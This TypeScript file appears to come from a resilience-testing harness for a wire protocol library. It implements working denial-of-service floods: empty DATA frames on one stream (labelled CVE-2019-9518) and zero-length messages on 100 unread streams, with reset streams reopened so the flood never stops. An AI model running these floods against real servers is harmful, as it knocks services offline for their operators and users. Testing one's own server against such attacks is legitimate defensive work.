import { Flag, FrameType } from "@strand/wire/internal";
import type { Campaign } from "../campaign.ts";
import { concat, frame, handshake, openCall, repeat, requestHead } from "../frames.ts";
import type { RawConnection } from "../raw-connection.ts";

/** Frames per write. */
const BURST = 1024;

/**
 * Keeps `width` streams to `neverRead` open on `conn` and writes bursts of `perStream` copies of
 * `dataFlags`-DATA frames without payload to each; a stream the server resets is replaced by a
 * new one, so the flood never runs dry.
 */
async function streamFlood(campaign: Campaign, conn: RawConnection, width: number, dataFlags: number, counter: string): Promise<void> {
  const head = requestHead("neverRead");
  const open = new Set<number>();
  let nextId = 1;
  let burst: Uint8Array | undefined;
  conn.onFrameSeen = (f) => {
    if ((f.type === FrameType.RstStream || (f.type === FrameType.Headers && (f.flags & Flag.EndStream) !== 0)) && open.delete(f.streamId)) {
      campaign.count("streamsEndedByServer");
      burst = undefined;
    }
  };
  conn.write(handshake());
  let sinceYield = 0;
  while (campaign.active && !conn.closed) {
    const opening: Uint8Array[] = [];
    while (open.size < width) {
      opening.push(openCall(nextId, head));
      open.add(nextId);
      nextId += 2;
      burst = undefined;
    }
    if (opening.length > 0) conn.write(concat(opening));
    burst ??= concat([...open].map((id) => repeat(frame(FrameType.Data, dataFlags, id), Math.ceil(BURST / width))));
    const whole = conn.write(burst);
    campaign.count(counter, burst.length / 9);
    if (!whole) await Promise.race([conn.drained(), campaign.stopped]);
    else if (++sinceYield >= 8) {
      sinceYield = 0;
      await new Promise<void>((r) => setImmediate(r));
    }
  }
}

/** Class 6 (CVE-2019-9518): empty DATA frames without flags (no message, no end) on one open stream. */
export function emptyDataFlood(campaign: Campaign): Promise<void> {
  return campaign.persist((conn) => streamFlood(campaign, conn, 1, 0, "emptyFrames"));
}

/** Class 7: zero-length messages (DATA with END_MESSAGE, no bytes) on 100 streams whose handler never reads. */
export function zeroLengthMessages(campaign: Campaign): Promise<void> {
  return campaign.persist((conn) => streamFlood(campaign, conn, 100, Flag.EndMessage, "emptyMessages"));
}
